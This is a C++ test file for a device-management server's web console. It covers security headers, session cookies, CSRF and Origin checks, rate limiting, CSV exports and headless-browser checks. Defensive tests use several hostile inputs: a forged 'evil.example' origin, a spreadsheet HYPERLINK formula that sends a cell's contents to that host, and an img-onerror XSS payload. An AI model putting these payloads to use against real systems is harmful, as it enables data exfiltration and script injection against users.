// The web console against the real `appban server` on loopback (docs/console.md): its files and
// security headers, signing in with a pasted token for a session cookie, that cookie on the admin
// API, the CSRF and Origin refusals, the session's end (sign-out, idle limit, revoked token).
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <fstream>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "appban/common/json.h"
#include "appban/common/time.h"
#include "appban/policy/bundle.h"
#include "appban/policy/evaluate.h"
#include "appban/policy/keys.h"
#include "appban/protocol/messages.h"
#include "support/oidc_provider.h"
#include "support/server_process.h"
#include "support/test_support.h"

namespace appban {
namespace {

using testing::ServerProcess;
using testing::TempDir;
using Headers = std::vector<std::pair<std::string, std::string>>;

std::string Lower(std::string text) {
  for (char& c : text) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return text;
}

std::string HeaderOf(const net::HttpResponse& response, const std::string& name) {
  for (const auto& [key, value] : response.headers) {
    if (Lower(key) == Lower(name)) return value;
  }
  return "";
}

// A phone running the agent's side of the device protocol (docs/protocol.md): it checks in every
// 200 ms; a bundle in the answer is verified with the policy keys it pinned at enrolment and
// evaluated against its inventory, the apps it says to remove are removed, and the next check-in
// acknowledges the bundle's version and rules hash with the new inventory and a "removed" event.
class SimulatedPhone {
 public:
  SimulatedPhone(net::HttpClient client, const protocol::EnrollResponse& enrolled,
                 std::vector<policy::InstalledApp> apps)
      : client_(std::move(client)), id_(enrolled.device_id), credential_(enrolled.credential), apps_(std::move(apps)) {
    for (const std::string& pem : enrolled.policy_keys_pem) {
      auto key = policy::ParsePublicKeyPem(pem);
      if (key.ok()) keys_.push_back(*key);
    }
  }

  // One check-in, and the bundle it brings applied. Returns "" or what went wrong.
  std::string CheckIn() {
    protocol::CheckinRequest request;
    request.applied_version = applied_version_;
    request.rules_hash = rules_hash_;
    request.inventory_hash = protocol::InventoryHash(apps_);
    request.inventory = apps_;
    request.events = events_;
    request.agent_version = "1.0";
    auto answer = client_.Request("POST", "/v1/checkin", protocol::CheckinRequestBody(request),
                                  {{"authorization", "Bearer " + credential_}, {"content-type", "application/json"}});
    if (!answer.ok()) return answer.status().ToString();
    if (answer->status != 200) return "check-in: HTTP " + std::to_string(answer->status) + " " + answer->body;
    auto response = protocol::ParseCheckinResponse(answer->body);
    if (!response.ok()) return response.status().ToString();
    std::erase_if(events_, [&](const protocol::DeviceEvent& e) { return e.seq <= response->events_acked; });
    if (!response->bundle) return "";
    policy::VerifyOptions options;
    options.trusted_keys = keys_;
    options.now = std::time(nullptr);
    auto verified = policy::VerifyBundle(*response->bundle, options);
    if (!verified.ok()) return "the bundle does not verify: " + verified.status().ToString();
    auto index = policy::PolicyIndex::Build(verified->bundle);
    if (!index.ok()) return index.status().ToString();
    const std::vector<policy::AppDecision> decisions =
        index->EvaluateAll(apps_, policy::DeviceContext{id_, {}}, std::time(nullptr));
    std::vector<policy::InstalledApp> kept;
    for (size_t i = 0; i < apps_.size(); ++i) {
      if (decisions[i].verdict != policy::Verdict::kRemove) {
        kept.push_back(apps_[i]);
        continue;
      }
      removed_.push_back(apps_[i].id);
      events_.push_back(protocol::DeviceEvent{++event_seq_, std::time(nullptr), protocol::EventKind::kRemoved,
                                              std::string(policy::PlatformName(apps_[i].platform)), apps_[i].id,
                                              decisions[i].rule_id, ""});
    }
    apps_ = std::move(kept);
    applied_version_ = verified->bundle.version;
    rules_hash_ = verified->bundle.rules_hash;
    return "";
  }

  const std::string& id() const { return id_; }
  int64_t applied_version() const { return applied_version_; }
  const std::vector<std::string>& removed() const { return removed_; }

 private:
  net::HttpClient client_;
  std::string id_;
  std::string credential_;
  std::vector<policy::PublicKey> keys_;
  std::vector<policy::InstalledApp> apps_;
  std::vector<protocol::DeviceEvent> events_;
  int64_t event_seq_ = 0;
  int64_t applied_version_ = 0;
  std::string rules_hash_;
  std::vector<std::string> removed_;
};

class ConsoleTest : public ::testing::Test {
 protected:
  void Start(const std::string& toml = "", std::vector<std::string> extra = {}) {
    if (!toml.empty()) {
      auto config = dir_.path() / "server.toml";
      std::ofstream(config) << toml;
      extra.insert(extra.end(), {"--config", config.string()});
    }
    auto server = ServerProcess::Start(dir_.path() / "data", extra);
    ASSERT_TRUE(server) << "server did not start";
    server_.emplace(std::move(*server));
  }

  net::HttpResponse Send(const std::string& method, const std::string& path, const std::string& body = "",
                         const Headers& headers = {}) {
    auto client = server_->Client();
    auto response = client.Request(method, path, body, headers);
    EXPECT_TRUE(response.ok()) << response.status().ToString();
    return response.ok() ? *response : net::HttpResponse{};
  }

  // The origin the browser names: the server's own URL.
  std::string Origin() const { return server_->url(); }

  struct Session {
    std::string cookie;  // "appban_session=..."
    std::string csrf;
    net::HttpResponse response;
  };
  Session SignIn(const std::string& token) {
    Session session;
    session.response = Send("POST", "/v1/session", Json{{"token", token}}.dump(),
                            {{"content-type", "application/json"}, {"origin", Origin()}});
    std::string set_cookie = HeaderOf(session.response, "set-cookie");
    session.cookie = set_cookie.substr(0, set_cookie.find(';'));
    Json body = Json::parse(session.response.body, nullptr, false);
    if (body.is_object()) session.csrf = StringOr(body, "csrf_token");
    return session;
  }

  net::HttpResponse WithSession(const Session& session, const std::string& method, const std::string& path,
                                const std::string& body = "", Headers extra = {}) {
    extra.emplace_back("cookie", session.cookie);
    if (!body.empty()) extra.emplace_back("content-type", "application/json");
    return Send(method, path, body, extra);
  }

  Json Rule(const std::string& id) {
    return Json{{"id", id},
                {"title", "Ban " + id},
                {"targets", Json::array({Json{{"kind", "deb"}, {"value", id}}})},
                {"action", "remove"},
                {"rationale", "unacceptable risk"},
                {"authority", "CIO"}};
  }

  TempDir dir_;
  std::optional<testing::OidcProvider> provider_;  // outlives the server that trusts it
  std::optional<ServerProcess> server_;
};

TEST_F(ConsoleTest, ThePageAndItsFilesComeWithStrictHeadersAndValidators) {
  Start();
  for (const auto& [path, type] :
       std::vector<std::pair<std::string, std::string>>{{"/", "text/html; charset=utf-8"},
                                                        {"/app.js", "text/javascript; charset=utf-8"},
                                                        {"/style.css", "text/css; charset=utf-8"}}) {
    SCOPED_TRACE(path);
    net::HttpResponse response = Send("GET", path);
    EXPECT_EQ(response.status, 200);
    EXPECT_EQ(HeaderOf(response, "content-type"), type);
    std::string csp = HeaderOf(response, "content-security-policy");
    for (const char* directive : {"default-src 'self'", "script-src 'self'", "object-src 'none'",
                                  "frame-ancestors 'none'", "base-uri 'none'"}) {
      EXPECT_NE(csp.find(directive), std::string::npos) << csp;
    }
    EXPECT_EQ(csp.find("unsafe-inline"), std::string::npos) << csp;
    EXPECT_EQ(HeaderOf(response, "x-frame-options"), "DENY");
    EXPECT_EQ(HeaderOf(response, "x-content-type-options"), "nosniff");
    EXPECT_EQ(HeaderOf(response, "referrer-policy"), "no-referrer");
    std::string etag = HeaderOf(response, "etag");
    ASSERT_FALSE(etag.empty());
    net::HttpResponse again = Send("GET", path, "", {{"if-none-match", etag}});
    EXPECT_EQ(again.status, 304);
    EXPECT_TRUE(again.body.empty());
  }
  // The page loads nothing from elsewhere and runs no inline script.
  net::HttpResponse index = Send("GET", "/");
  EXPECT_EQ(index.body.find("http://"), std::string::npos);
  EXPECT_EQ(index.body.find("https://"), std::string::npos);
  EXPECT_EQ(index.body.find("<script>"), std::string::npos);
  EXPECT_EQ(Send("GET", "/nothing.js").status, 404);
  EXPECT_EQ(Send("POST", "/").status, 405);
}

TEST_F(ConsoleTest, APastedTokenBecomesAStrictCookieThatAuthenticatesTheAdminApi) {
  Start();
  // Without a session, the console's page still loads, but the API does not answer.
  EXPECT_EQ(Send("GET", "/v1/session").status, 401);
  Session bad = SignIn("t-0000000000000000." + std::string(64, 'a'));
  EXPECT_EQ(bad.response.status, 401) << bad.response.body;
  EXPECT_TRUE(HeaderOf(bad.response, "set-cookie").empty());

  Session session = SignIn(server_->admin_token());
  ASSERT_EQ(session.response.status, 201) << session.response.body;
  std::string set_cookie = HeaderOf(session.response, "set-cookie");
  for (const char* flag : {"; HttpOnly", "; Secure", "; SameSite=Strict", "; Path=/", "; Max-Age=1800"}) {
    EXPECT_NE(set_cookie.find(flag), std::string::npos) << set_cookie;
  }
  EXPECT_EQ(HeaderOf(session.response, "cache-control"), "no-store");
  EXPECT_EQ(session.csrf.size(), 64u);
  // The cookie holds no secret: the token pasted is not in it.
  EXPECT_EQ(set_cookie.find(server_->admin_token()), std::string::npos);

  net::HttpResponse who = WithSession(session, "GET", "/v1/admin/whoami");
  ASSERT_EQ(who.status, 200) << who.body;
  Json me = Json::parse(who.body);
  EXPECT_EQ(me["role"], "admin") << me.dump();

  // A change with the CSRF token and the console's Origin goes through, and the audit chain names
  // the person, the method "session" and the token the session was made from.
  net::HttpResponse proposed = WithSession(session, "POST", "/v1/admin/rules", Rule("console-app").dump(),
                                           {{"x-csrf-token", session.csrf}, {"origin", Origin()}});
  ASSERT_EQ(proposed.status, 201) << proposed.body;
  net::HttpResponse audit = WithSession(session, "GET", "/v1/admin/audit?limit=1000");
  ASSERT_EQ(audit.status, 200);
  bool found = false;
  const Json log = Json::parse(audit.body);
  for (const Json& entry : log["entries"]) {
    if (entry.dump().find("console-app") == std::string::npos) continue;
    found = true;
    EXPECT_EQ(entry["identity"]["method"], "session") << entry.dump();
    EXPECT_EQ(entry["identity"]["channel"], "console") << entry.dump();
    EXPECT_FALSE(StringOr(entry["identity"], "token_id").empty()) << entry.dump();
  }
  EXPECT_TRUE(found) << audit.body;

  // GET /v1/session names the user, gives the same CSRF token and renews the cookie.
  net::HttpResponse current = WithSession(session, "GET", "/v1/session");
  ASSERT_EQ(current.status, 200) << current.body;
  EXPECT_EQ(Json::parse(current.body)["csrf_token"], session.csrf);
  EXPECT_NE(HeaderOf(current, "set-cookie").find("HttpOnly"), std::string::npos);
}

TEST_F(ConsoleTest, StateChangesWithoutTheCsrfTokenOrFromAnotherOriginAreRefused) {
  Start();
  Session session = SignIn(server_->admin_token());
  ASSERT_EQ(session.response.status, 201);
  std::string body = Rule("csrf-app").dump();
  struct Case {
    const char* what;
    Headers headers;
  };
  std::vector<Case> cases = {
      {"no CSRF token", {{"origin", Origin()}}},
      {"a wrong CSRF token", {{"origin", Origin()}, {"x-csrf-token", std::string(64, '0')}}},
      {"another session's CSRF token", {{"origin", Origin()}, {"x-csrf-token", SignIn(server_->admin_token()).csrf}}},
      {"another Origin", {{"origin", "https://evil.example"}, {"x-csrf-token", session.csrf}}},
      {"no Origin", {{"x-csrf-token", session.csrf}}},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.what);
    net::HttpResponse refused = WithSession(session, "POST", "/v1/admin/rules", body, c.headers);
    EXPECT_EQ(refused.status, 403) << refused.body;
    EXPECT_EQ(Json::parse(refused.body)["error"]["code"], "csrf") << refused.body;
  }
  // Nothing was proposed.
  EXPECT_EQ(WithSession(session, "GET", "/v1/admin/rules/csrf-app").status, 404);
  // Signing out needs the token too (no other site may sign the user out), then clears the cookie.
  EXPECT_EQ(WithSession(session, "DELETE", "/v1/session", "", {{"origin", Origin()}}).status, 403);
  net::HttpResponse out =
      WithSession(session, "DELETE", "/v1/session", "", {{"origin", Origin()}, {"x-csrf-token", session.csrf}});
  EXPECT_EQ(out.status, 204);
  EXPECT_NE(HeaderOf(out, "set-cookie").find("appban_session=; Max-Age=0"), std::string::npos);
  // A session cookie made by another server (or edited) is not a session here.
  Session forged = session;
  forged.cookie = "appban_session=s1.7b7d." + std::string(64, 'a');
  EXPECT_EQ(WithSession(forged, "GET", "/v1/admin/whoami").status, 401);
}

TEST_F(ConsoleTest, ASessionEndsWhenIdleAndWhenItsTokenIsRevoked) {
  Start("[console]\nsession_idle_seconds = 2\nsession_max_seconds = 3600\n");
  Session idle = SignIn(server_->admin_token());
  ASSERT_EQ(idle.response.status, 201);
  EXPECT_EQ(WithSession(idle, "GET", "/v1/admin/whoami").status, 200);
  std::this_thread::sleep_for(std::chrono::milliseconds(2500));
  net::HttpResponse expired = WithSession(idle, "GET", "/v1/admin/whoami");
  EXPECT_EQ(expired.status, 401);
  EXPECT_NE(expired.body.find("inactivity"), std::string::npos) << expired.body;

  // A second token for the same person; a session made from it ends when it is revoked.
  Headers admin = {{"authorization", "Bearer " + server_->admin_token()}, {"content-type", "application/json"}};
  net::HttpResponse minted = Send("POST", "/v1/admin/tokens", R"({"name":"laptop","role":"auditor"})", admin);
  ASSERT_EQ(minted.status, 201) << minted.body;
  Json token = Json::parse(minted.body);
  Session session = SignIn(StringOr(token, "token"));
  ASSERT_EQ(session.response.status, 201) << session.response.body;
  net::HttpResponse who = WithSession(session, "GET", "/v1/admin/whoami");
  ASSERT_EQ(who.status, 200);
  // The session carries the role of the token it was made from, not more.
  net::HttpResponse weak = WithSession(session, "POST", "/v1/admin/groups", R"({"name":"g1"})",
                                       {{"x-csrf-token", session.csrf}, {"origin", Origin()}});
  EXPECT_EQ(weak.status, 403) << weak.body;
  EXPECT_EQ(Json::parse(weak.body)["error"]["code"], "forbidden");
  ASSERT_EQ(Send("POST", "/v1/admin/tokens/" + StringOr(token, "id") + "/revoke", "{}", admin).status, 200);
  net::HttpResponse revoked = WithSession(session, "GET", "/v1/admin/whoami");
  EXPECT_EQ(revoked.status, 401);
  EXPECT_NE(revoked.body.find("revoked"), std::string::npos) << revoked.body;
}

// Sign-in attempts are counted per address, before the token is looked at: after the burst an
// address gets 429 with Retry-After even with the right token, and another address is not held up.
TEST_F(ConsoleTest, SignInAttemptsFromOneAddressAreRateLimited) {
  Start("[console]\nsign_in_rate_limit_burst = 3\nsign_in_rate_limit_per_minute = 1\n");
  const Headers json = {{"content-type", "application/json"}, {"origin", Origin()}};
  for (int attempt = 0; attempt < 3; ++attempt) {
    EXPECT_EQ(Send("POST", "/v1/session", Json{{"token", "guess-" + std::to_string(attempt)}}.dump(), json).status,
              401);
  }
  net::HttpResponse limited = Send("POST", "/v1/session", Json{{"token", server_->admin_token()}}.dump(), json);
  EXPECT_EQ(limited.status, 429) << limited.body;
  EXPECT_EQ(Json::parse(limited.body)["error"]["code"], "rate_limited");
  const std::string retry_after = HeaderOf(limited, "retry-after");
  ASSERT_FALSE(retry_after.empty());
  EXPECT_GE(std::stoi(retry_after), 1);
  EXPECT_TRUE(HeaderOf(limited, "set-cookie").empty());
  // Reading the session is not an attempt; the admin API with the bearer token is not held up.
  EXPECT_EQ(Send("GET", "/v1/session").status, 401);
  EXPECT_EQ(Send("GET", "/v1/admin/whoami", "", {{"authorization", "Bearer " + server_->admin_token()}}).status, 200);

  // Another address has its own bucket.
  net::ClientOptions options;
  options.pinned_ca_pem = server_->ca_pem();
  options.local_address = "127.0.0.2";
  net::HttpClient other(*net::ParseUrl(server_->url()), options);
  auto from_other = other.Request("POST", "/v1/session", Json{{"token", server_->admin_token()}}.dump(),
                                  {{"content-type", "application/json"}, {"origin", Origin()}});
  ASSERT_TRUE(from_other.ok()) << from_other.status().ToString();
  EXPECT_EQ(from_other->status, 201) << from_other->body;
}

// Signing out ends the session on the server: a copy of the cookie (another tab, a thief's) is
// refused. Ending every session of the user refuses all the others, until the user signs in again.
TEST_F(ConsoleTest, SignOutAndEndingEverySessionAreEnforcedByTheServer) {
  Start();
  Session tab = SignIn(server_->admin_token());
  ASSERT_EQ(tab.response.status, 201) << tab.response.body;
  const Session copy = tab;
  ASSERT_EQ(WithSession(tab, "DELETE", "/v1/session", "", {{"origin", Origin()}, {"x-csrf-token", tab.csrf}}).status,
            204);
  net::HttpResponse stale = WithSession(copy, "GET", "/v1/admin/whoami");
  EXPECT_EQ(stale.status, 401);
  EXPECT_NE(stale.body.find("ended on the server"), std::string::npos) << stale.body;

  Session laptop = SignIn(server_->admin_token());
  Session desktop = SignIn(server_->admin_token());
  ASSERT_EQ(WithSession(laptop, "GET", "/v1/admin/whoami").status, 200);
  const std::string user_id = StringOr(Json::parse(WithSession(laptop, "GET", "/v1/admin/whoami").body), "actor");
  ASSERT_FALSE(user_id.empty());
  // "Sign out everywhere", from the desktop's own session.
  net::HttpResponse ended = WithSession(desktop, "POST", "/v1/admin/users/" + user_id + "/sessions/end", "{}",
                                        {{"origin", Origin()}, {"x-csrf-token", desktop.csrf}});
  ASSERT_EQ(ended.status, 200) << ended.body;
  EXPECT_EQ(WithSession(laptop, "GET", "/v1/admin/whoami").status, 401);
  EXPECT_EQ(WithSession(desktop, "GET", "/v1/admin/whoami").status, 401);
  // The bearer token is not a session: it still works. A new sign-in (a second later) does too.
  EXPECT_EQ(Send("GET", "/v1/admin/whoami", "", {{"authorization", "Bearer " + server_->admin_token()}}).status, 200);
  std::this_thread::sleep_for(std::chrono::milliseconds(1100));
  Session again = SignIn(server_->admin_token());
  ASSERT_EQ(again.response.status, 201);
  EXPECT_EQ(WithSession(again, "GET", "/v1/admin/whoami").status, 200);
}

TEST_F(ConsoleTest, CsvExportsDefuseFormulasThatDevicesSent) {
  Start();
  Headers admin = {{"authorization", "Bearer " + server_->admin_token()}, {"content-type", "application/json"}};
  net::HttpResponse tokens = Send("POST", "/v1/admin/enrollment-tokens", R"({"count":1})", admin);
  ASSERT_EQ(tokens.status, 201) << tokens.body;
  std::string enrolment = StringOr(Json::parse(tokens.body)["tokens"][0], "token");
  // A device names itself; its host name is whatever it says.
  Json enroll{{"token", enrolment},
              {"hostname", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"},
              {"platform", "linux"},
              {"agent_version", "1.0"}};
  net::HttpResponse enrolled = Send("POST", "/v1/enroll", enroll.dump(), {{"content-type", "application/json"}});
  ASSERT_EQ(enrolled.status, 201) << enrolled.body;

  Session session = SignIn(server_->admin_token());
  ASSERT_EQ(session.response.status, 201);
  net::HttpResponse devices = WithSession(session, "GET", "/v1/admin/exports/devices.csv");
  ASSERT_EQ(devices.status, 200) << devices.body;
  EXPECT_EQ(HeaderOf(devices, "content-type"), "text/csv; charset=utf-8");
  EXPECT_NE(HeaderOf(devices, "content-disposition").find("attachment"), std::string::npos);
  EXPECT_EQ(devices.body.rfind("id,hostname,platform,source,", 0), 0u) << devices.body;
  EXPECT_NE(devices.body.find(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\",linux,agent,"),
            std::string::npos)
      << devices.body;
  EXPECT_EQ(devices.body.find(",=HYPERLINK"), std::string::npos) << devices.body;
  EXPECT_EQ(devices.body.find(",\"=HYPERLINK"), std::string::npos) << devices.body;
  // The export takes the device list's search: a host name that matches nothing leaves the header.
  net::HttpResponse none = WithSession(session, "GET", "/v1/admin/exports/devices.csv?hostname=laptop-");
  ASSERT_EQ(none.status, 200) << none.body;
  EXPECT_EQ(none.body.find("HYPERLINK"), std::string::npos) << none.body;
  net::HttpResponse found = WithSession(session, "GET", "/v1/admin/exports/devices.csv?hostname=%3Dhyperlink");
  ASSERT_EQ(found.status, 200) << found.body;
  EXPECT_NE(found.body.find("'=HYPERLINK"), std::string::npos) << found.body;

  net::HttpResponse audit = WithSession(session, "GET", "/v1/admin/exports/audit.csv");
  ASSERT_EQ(audit.status, 200);
  EXPECT_EQ(audit.body.rfind("seq,at,actor,action,object,identity,hash\r\n", 0), 0u) << audit.body.substr(0, 200);
  net::HttpResponse compliance = WithSession(session, "GET", "/v1/admin/exports/compliance.csv");
  ASSERT_EQ(compliance.status, 200) << compliance.body;
  EXPECT_EQ(compliance.body.rfind("rule_id,action,first_published_at,targeted,", 0), 0u) << compliance.body;
  // Without a session or token there is no export.
  EXPECT_EQ(Send("GET", "/v1/admin/exports/devices.csv").status, 401);
}

// The console in a real browser: Debian's chromium, headless, driven by puppeteer-core
// (tests/console/browser.mjs; scripts/setup.sh --test installs both). Plain HTTP on loopback, which
// browsers treat as a secure context, so the Secure cookie is kept as it would be over TLS.
TEST_F(ConsoleTest, ChromiumSignsInSeesTheApiNumbersAndShowsHostileTextAsText) {
  const std::filesystem::path tools = std::filesystem::path(APPBAN_SOURCE_DIR) / "tests" / "console";
  ASSERT_TRUE(std::filesystem::exists(tools / "node_modules" / "puppeteer-core"))
      << "puppeteer-core is not installed in " << tools << ": run scripts/setup.sh --test";
  ASSERT_TRUE(std::filesystem::exists("/usr/bin/chromium")) << "chromium is missing: run scripts/setup.sh --test";
  auto provider = testing::OidcProvider::Start(dir_.path() / "idp");
  ASSERT_TRUE(provider) << "the OpenID Connect provider did not start (scripts/setup.sh --test installs it)";
  provider_.emplace(std::move(*provider));
  Start(provider_->ServerToml(), {"--insecure-plain-http"});
  ASSERT_EQ(server_->url().rfind("http://127.0.0.1:", 0), 0u) << server_->url();
  const std::string hostile = "<img src=x onerror=\"window.__appbanXss=1\">";
  Headers admin = {{"authorization", "Bearer " + server_->admin_token()}, {"content-type", "application/json"}};
  Json rule = Rule("hostile-title");
  rule["title"] = hostile;
  ASSERT_EQ(Send("POST", "/v1/admin/rules", rule.dump(), admin).status, 201);
  net::HttpResponse tokens = Send("POST", "/v1/admin/enrollment-tokens", R"({"count":1})", admin);
  ASSERT_EQ(tokens.status, 201) << tokens.body;
  Json enroll{{"token", StringOr(Json::parse(tokens.body)["tokens"][0], "token")},
              {"hostname", hostile},
              {"platform", "linux"},
              {"agent_version", "1.0"}};
  net::HttpResponse enrolled = Send("POST", "/v1/enroll", enroll.dump(), {{"content-type", "application/json"}});
  ASSERT_EQ(enrolled.status, 201) << enrolled.body;
  const std::string device = StringOr(Json::parse(enrolled.body), "device_id");
  // Devices for the search on the Devices page: two kiosks (one with a chat app), and a desk with
  // the chat app and a name holding LIKE's wildcards.
  for (auto [hostname, app] : {std::pair{"kiosk-lobby", "org.example.signage"},
                               std::pair{"KIOSK-hall", "com.tencent.mm"}, std::pair{"desk_7%", "com.tencent.mm"}}) {
    net::HttpResponse token = Send("POST", "/v1/admin/enrollment-tokens", R"({"count":1})", admin);
    ASSERT_EQ(token.status, 201) << token.body;
    Json request{{"token", StringOr(Json::parse(token.body)["tokens"][0], "token")},
                 {"hostname", hostname},
                 {"platform", "linux"},
                 {"agent_version", "1.0"}};
    net::HttpResponse made = Send("POST", "/v1/enroll", request.dump(), {{"content-type", "application/json"}});
    ASSERT_EQ(made.status, 201) << made.body;
    std::vector<policy::InstalledApp> apps = {{policy::Platform::kDeb, "bash", "5.2", "", ""},
                                              {policy::Platform::kDeb, app, "1.0", "", ""}};
    protocol::CheckinRequest checkin;
    checkin.inventory_hash = protocol::InventoryHash(apps);
    checkin.inventory = apps;
    net::HttpResponse checked_in = Send("POST", "/v1/checkin", protocol::ToJson(checkin).dump(),
                                        {{"authorization", "Bearer " + StringOr(Json::parse(made.body), "credential")},
                                         {"content-type", "application/json"}});
    ASSERT_EQ(checked_in.status, 200) << checked_in.body;
  }

  // A granted waiver for the page to show as expiring within a week and to revoke. Granting one
  // takes two people: alice requests it and bob approves it, both signed in at the test provider.
  const UnixSeconds now =
      std::chrono::duration_cast<std::chrono::seconds>(std::chrono::system_clock::now().time_since_epoch()).count();
  Json waiver{{"id", "w-granted"},
              {"rule_id", "hostile-title"},
              {"subject_kind", "device"},
              {"subject", device},
              {"justification", "field test of the replacement app"},
              {"expires_at", FormatTimestamp(now + 3 * 24 * 3600)}};
  Headers alice = {{"authorization", "Bearer " + provider_->SignIn("alice")}, {"content-type", "application/json"}};
  Headers bob = {{"authorization", "Bearer " + provider_->SignIn("bob")}, {"content-type", "application/json"}};
  net::HttpResponse requested;
  // The server reads the provider's keys on the first token it sees; until then it says retry.
  for (int attempt = 0; attempt < 50; ++attempt) {
    requested = Send("POST", "/v1/admin/waivers", waiver.dump(), alice);
    if (requested.status != 401 && requested.status != 503) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  ASSERT_EQ(requested.status, 202) << requested.body;
  const std::string change = StringOr(Json::parse(requested.body)["change"], "id");
  net::HttpResponse approved = Send("POST", "/v1/admin/changes/" + change + "/approve", "{}", bob);
  ASSERT_EQ(approved.status, 200) << approved.body;

  // APPBAN_CONSOLE_SCREENSHOTS=DIR keeps the screenshots there (docs/console/ is made this way).
  const char* keep = std::getenv("APPBAN_CONSOLE_SCREENSHOTS");
  const std::filesystem::path shots =
      keep != nullptr && *keep != '\0' ? std::filesystem::path(keep) : dir_.path() / "screenshots";
  std::filesystem::create_directories(shots);
  testing::CommandResult run =
      testing::RunCommand({"timeout", "180", "node", (tools / "browser.mjs").string(), server_->url(),
                           server_->admin_token(), "hostile-title", hostile, shots.string()});
  EXPECT_EQ(run.exit_code, 0) << run.out << run.err;
  EXPECT_NE(run.out.find("ok: the devices page shows the hostile host name as text"), std::string::npos) << run.out;
  EXPECT_NE(run.out.find("ok: searching by installed app"), std::string::npos) << run.out;
  EXPECT_TRUE(std::filesystem::exists(shots / "console-overview.png"));
}

// The two-person rule for a ban, in chromium (tests/console/rules-browser.mjs): alice and bob sign
// in at the test provider in two browser profiles; alice uploads an APK (the rich fixture) and
// proposes a ban from its assessment, and is refused approving it herself; bob approves and
// publishes it. Two phones holding the app, enrolled here, take the bundle on their next check-in
// and remove the app, and the overview shows both compliant; the Exports page's CSVs name the rule
// and the phones.
TEST_F(ConsoleTest, ChromiumTwoPeopleBanAnAssessedAppAndThePhonesComply) {
  const std::filesystem::path tools = std::filesystem::path(APPBAN_SOURCE_DIR) / "tests" / "console";
  ASSERT_TRUE(std::filesystem::exists(tools / "node_modules" / "puppeteer-core"))
      << "puppeteer-core is not installed in " << tools << ": run scripts/setup.sh --test";
  ASSERT_TRUE(std::filesystem::exists("/usr/bin/chromium")) << "chromium is missing: run scripts/setup.sh --test";
  const std::string apk = testing::Fixture("rich.apk");
  const std::string package = "org.appban.fixture.rich";  // tests/fixtures/apps/rich/AndroidManifest.xml
  const std::string secret = "console-rules-secret-4b1e";
  testing::OidcProvider::Options options;
  options.console_client_secret = secret;
  auto provider = testing::OidcProvider::Start(dir_.path() / "idp", options);
  ASSERT_TRUE(provider) << "the OpenID Connect provider did not start (scripts/setup.sh --test installs it)";
  provider_.emplace(std::move(*provider));
  const std::filesystem::path secret_file = dir_.path() / "client-secret";
  std::ofstream(secret_file) << secret << "\n";
  std::filesystem::permissions(secret_file, std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
  Start(provider_->ConsoleServerToml("appban-console-basic", "client_secret_file = \"" + secret_file.string() + "\""),
        {"--insecure-plain-http"});

  // Two phones holding the app (and a maps app), checked in before anything is banned.
  Headers admin = {{"authorization", "Bearer " + server_->admin_token()}, {"content-type", "application/json"}};
  std::vector<SimulatedPhone> phones;
  for (const char* hostname : {"phone-registry-1", "phone-registry-2"}) {
    net::HttpResponse token = Send("POST", "/v1/admin/enrollment-tokens", R"({"count":1})", admin);
    ASSERT_EQ(token.status, 201) << token.body;
    protocol::EnrollRequest request{StringOr(Json::parse(token.body)["tokens"][0], "token"), hostname, "android",
                                    "1.0"};
    net::HttpResponse made =
        Send("POST", "/v1/enroll", protocol::ToJson(request).dump(), {{"content-type", "application/json"}});
    ASSERT_EQ(made.status, 201) << made.body;
    auto enrolled = protocol::ParseEnrollResponse(made.body);
    ASSERT_TRUE(enrolled.ok()) << made.body;
    phones.emplace_back(
        server_->Client(), *enrolled,
        std::vector<policy::InstalledApp>{{policy::Platform::kAndroid, package, "1.0", "", ""},
                                          {policy::Platform::kAndroid, "org.example.maps", "4.2", "", ""}});
    ASSERT_EQ(phones.back().CheckIn(), "");
  }
  // The provider answers the server's first sign-in once it is up.
  for (int attempt = 0; attempt < 50; ++attempt) {
    if (Send("GET", "/console/sign-in?provider=test-idp").status == 302) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }

  // The phones keep checking in while the people work in the browser.
  std::atomic<bool> stop = false;
  std::vector<std::string> phone_errors(phones.size());
  std::thread devices([&] {
    while (!stop) {
      for (size_t i = 0; i < phones.size(); ++i) {
        if (std::string error = phones[i].CheckIn(); !error.empty()) phone_errors[i] = error;
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(200));
    }
  });
  const char* keep = std::getenv("APPBAN_CONSOLE_SCREENSHOTS");
  const std::filesystem::path shots =
      keep != nullptr && *keep != '\0' ? std::filesystem::path(keep) : dir_.path() / "screenshots";
  std::filesystem::create_directories(shots);
  testing::CommandResult run = testing::RunCommand({"timeout", "120", "node", (tools / "rules-browser.mjs").string(),
                                                    server_->url(), server_->admin_token(), "test-idp", apk, package,
                                                    std::to_string(phones.size()), shots.string()});
  stop = true;
  devices.join();
  EXPECT_EQ(run.exit_code, 0) << run.out << run.err;
  EXPECT_NE(run.out.find("ok: approving one's own rule is refused and explained on the page"), std::string::npos)
      << run.out;
  EXPECT_NE(run.out.find("ok: the overview shows all 2 targeted devices compliant"), std::string::npos) << run.out;
  for (size_t i = 0; i < phones.size(); ++i) {
    EXPECT_EQ(phone_errors[i], "") << phones[i].id();
    EXPECT_EQ(phones[i].removed(), std::vector<std::string>{package}) << phones[i].id();
    EXPECT_GT(phones[i].applied_version(), 0) << phones[i].id();
  }
  EXPECT_TRUE(std::filesystem::exists(shots / "console-exports.png"));
}

}  // namespace
}  // namespace appban
